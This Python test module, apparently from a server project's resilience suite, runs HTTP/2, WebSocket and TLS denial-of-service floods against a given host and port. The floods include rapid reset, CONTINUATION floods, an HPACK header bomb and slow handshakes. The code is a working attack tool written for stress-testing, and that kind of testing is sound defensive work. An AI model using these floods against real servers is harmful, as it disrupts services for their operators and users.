"""Floods as a process: ``python -m tests.hostile.floods NAME HOST PORT``.

It obeys as ``tests.hostile.attackers`` does. While it attacks, each blow gives the next connection
of a crowd the next bytes of its script; who has been cut off, or is at the end of the script,
begins anew with the next blow. Blows are frequent, so that more than one in a hundred requests of
another client meets one. It runs where and when nobody else wants the processor, so that it
costs a normal client what the server spends on it, and nothing else.
"""

from __future__ import annotations

import os
import select
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterable
from contextlib import ExitStack
from dataclasses import dataclass
from itertools import chain, repeat

import hpack

from tests.kit import http2, websocket
from tests.kit.http2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, frame

OPENING = PREFACE + frame(http2.SETTINGS)
STREAMS = range(1, 8001, 2)


@dataclass(frozen=True, slots=True)
class Flood:
    """What each connection of a crowd sends.

    One of ``crowd`` gets ``size`` more bytes of ``script`` in each blow, every ``step`` seconds.
    What comes is read if ``reads``.
    """

    script: bytes
    crowd: int = 10
    size: int = 4096
    step: float = 0.002
    reads: bool = True
    tls: bool = False


def _of_frames(frames: Iterable[bytes]) -> Flood:
    return Flood(OPENING + b"".join(frames))


def _heads(tail: Callable[[int], bytes], flags: int = END_HEADERS | END_STREAM) -> Iterable[bytes]:
    """A request on each stream, and what ``tail`` makes of its number."""
    encoder = hpack.Encoder()
    fields = [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/hello")]
    for stream in STREAMS:
        yield frame(HEADERS, encoder.encode(fields), flags=flags, stream=stream) + tail(stream)


def _bombs() -> Iterable[bytes]:
    """Heads that are a thousand times as long as what came on the wire."""
    encoder = hpack.Encoder()
    fields = [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/")]
    for stream in STREAMS[:200]:
        block = encoder.encode([*fields, ("x-bomb", "b" * 4000)])
        again = encoder.encode([("x-bomb", "b" * 4000)])
        flags = END_HEADERS | END_STREAM
        yield frame(HEADERS, block + again * 4000, flags=flags, stream=stream)


def _one_head(then: bytes, flags: int) -> Flood:
    """A request whose end never comes."""
    head = next(iter(_heads(lambda _stream: b"", flags)))
    return _of_frames(chain([head], repeat(then, 20_000)))


def _hello() -> bytes:
    """What a client says first over TLS."""
    coming, going = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(coming, going, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        return going.read()
    raise AssertionError("nobody has answered")


def _websocket(frames: Iterable[bytes], *, reads: bool = True) -> Flood:
    return Flood(websocket.handshake("/") + b"".join(frames), reads=reads)


_PING = frame(http2.PING, b"12345678")
_FIELD = hpack.Encoder().encode([("x-a", "b" * 1000)])
FLOODS: dict[str, Callable[[], Flood]] = {
    "rapid reset": lambda: _of_frames(
        _heads(lambda stream: frame(http2.RST_STREAM, (8).to_bytes(4), stream=stream))
    ),
    "made you reset": lambda: _of_frames(
        _heads(lambda stream: frame(http2.WINDOW_UPDATE, b"\x7f\xff\xff\xff", stream=stream))
    ),
    "continuation": lambda: _one_head(frame(CONTINUATION, _FIELD, stream=1), END_STREAM),
    "empty continuation": lambda: _one_head(frame(CONTINUATION, stream=1), END_STREAM),
    "ping": lambda: _of_frames(repeat(_PING, 20_000)),
    "settings": lambda: _of_frames(repeat(frame(http2.SETTINGS), 20_000)),
    "empty data": lambda: _one_head(frame(DATA, stream=1), END_HEADERS),
    "window": lambda: _of_frames(repeat(frame(http2.WINDOW_UPDATE, (1).to_bytes(4)), 20_000)),
    "hpack": lambda: _of_frames(_bombs()),
    "websocket ping": lambda: _websocket(repeat(websocket.frame(websocket.PING, b"a"), 50_000)),
    "websocket fragments": lambda: _websocket(
        chain(
            [websocket.frame(websocket.TEXT, b"a", bits=0)],
            repeat(websocket.frame(websocket.CONTINUATION, b"a", bits=0), 50_000),
        )
    ),
    "websocket unread": lambda: _websocket(
        repeat(websocket.frame(websocket.TEXT, b"a" * 100), 10_000), reads=False
    ),
    "slow handshakes": lambda: Flood(_hello(), crowd=1000, size=1, tls=True),
    "half-finished handshakes": lambda: Flood(_hello() + b"\0", crowd=100, step=0.02, tls=True),
}


class Attacker:
    """One connection of a crowd, again and again."""

    def __init__(self, flood: Flood, address: tuple[str, int]) -> None:
        self._flood = flood
        self._address = address
        self._sock: socket.socket | None = None
        self._at = 0
        self.begun = 0

    def strike(self) -> None:
        """Send the next bytes, as far as the server takes them."""
        sock = self._sock or self._begin()
        script = self._flood.script
        try:
            if self._flood.reads:
                self._read(sock)
            self._at += sock.send(script[self._at : self._at + self._flood.size])
        except BlockingIOError:
            return
        except ConnectionError:
            self.close()
        if self._at >= len(script):
            self.close()

    def _begin(self) -> socket.socket:
        sock = self._sock = socket.create_connection(self._address, timeout=10)
        sock.setblocking(False)
        self._at = 0
        self.begun += 1
        return sock

    @staticmethod
    def _read(sock: socket.socket) -> None:
        try:
            if not sock.recv(1 << 20):
                raise ConnectionResetError
        except BlockingIOError:
            return

    def close(self) -> None:
        """End the connection; the next blow begins one."""
        if self._sock is not None:
            self._sock.close()
            self._sock = None


def attack(flood: Flood, address: tuple[str, int]) -> None:
    """Open the crowd and strike until a line comes; then say how much of it there was."""
    with ExitStack() as stack:
        crowd = [Attacker(flood, address) for _ in range(flood.crowd)]
        for attacker in crowd:
            stack.callback(attacker.close)
            attacker.strike()
        print("attacking", flush=True)
        blows, begun = 0, time.monotonic()
        while not select.select([sys.stdin], [], [], flood.step)[0]:
            crowd[blows % len(crowd)].strike()
            blows += 1
        seconds = time.monotonic() - begun
    connections = sum(attacker.begun for attacker in crowd)
    print(f"{blows / seconds:.0f} blows/s, {connections} connections: resting", flush=True)


def main(name: str, host: str, port: str) -> None:
    """Obey until stdin ends."""
    flood = FLOODS[name]()
    if hasattr(os, "SCHED_IDLE"):
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    for line in iter(sys.stdin.readline, ""):
        if line.strip() == "go":
            attack(flood, (host, int(port)))


if __name__ == "__main__":
    main(*sys.argv[1:])
